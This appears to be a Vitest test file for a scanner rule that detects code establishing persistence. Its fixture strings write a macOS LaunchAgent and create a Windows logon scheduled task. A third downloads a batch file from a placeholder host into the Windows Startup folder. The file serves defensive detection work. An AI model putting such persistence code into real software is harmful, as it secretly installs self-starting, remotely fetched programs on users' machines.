import { describe, expect, it } from 'vitest';
import { hitsOf } from '../../../test/support/analyse.ts';
import detector from './persistence-place-write.ts';

describe('persistence-place-write', () => {
  it('T77: places and commands', async () => {
    const lures = [
      `const fs = require('fs'), os = require('os'), path = require('path'); fs.writeFileSync(path.join(os.homedir(), 'Library/LaunchAgents/com.fixture.plist'), '<plist/>');`,
      `require('child_process').exec('schtasks /create /sc onlogon /tn Fixture /tr fixture.exe');`,
    ];
    for (const lure of lures) expect(await hitsOf(detector, { 'a.js': lure }), lure).toHaveLength(1);
  });

  it('counts more where it comes from the network', async () => {
    const code = `const fs = require('fs'), os = require('os'), axios = require('axios'); axios.get('https://fixture.invalid/q.bat').then(r => fs.writeFileSync(os.homedir() + '/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/queue.bat', r.data));`;
    expect((await hitsOf(detector, { 'a.js': code })).map((hit) => hit.weight)).toEqual(['strong']);
  });

  it('twin: ordinary writes', async () => {
    expect(
      await hitsOf(detector, {
        'a.js': `require('fs').writeFileSync('startup.json', '{}'); require('child_process').exec('crontab -l');`,
      }),
    ).toEqual([]);
  });
});
